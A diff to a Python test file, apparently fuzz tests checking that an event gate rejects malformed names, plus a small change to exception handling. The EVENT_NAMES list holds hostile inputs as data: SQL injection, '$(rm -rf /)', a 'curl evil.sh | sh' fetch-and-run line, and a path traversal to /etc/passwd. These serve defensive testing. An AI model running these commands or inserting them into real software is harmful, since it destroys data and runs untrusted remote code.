@@ -39,7 +39,7 @@ def request(amount: Any) -> dict[str, Any]:
 
 
 EVENT_NAMES = [
-    "bogus", "Request", "REQUEST", "requеst", "reqυest", "request\u200b", "\u200brequest", "ｒｅｑｕｅｓｔ",
+    "bogus", "Request", "REQUEST", "requ\u0435st", "req\u03c5est", "request\u200b", "\u200brequest", "\uff52\uff45\uff51\uff55\uff45\uff53\uff54",
     "request; DROP TABLE instances;--", "' OR 1=1 --", "$(rm -rf /)", "`reboot`", "request && curl evil.sh | sh",
     "../../etc/passwd", "", " request", "request\n", "\x00", "\x1b[31mrequest", "__init__", "eval", "approve()",
     "refund.request", "draft->paid", "a" * 100_000, "🙂", "\ud800",
@@ -123,9 +123,13 @@ def _answer(gate: Gate, principal: Principal, text: str) -> str | Rejected:
     try:
         plan = loads_plan(text)
     except PlanError as exc:
-        assert exc.message
-        assert "\n" not in exc.message
-        return f"unusable:{exc.code}"
+        error = exc
+    else:
+        error = None
+    if error is not None:
+        assert error.message
+        assert "\n" not in error.message
+        return f"unusable:{error.code}"
     answer = gate.admit(plan, principal, new_instance(gate.spec))
     assert not isinstance(answer, Admitted)
     return answer
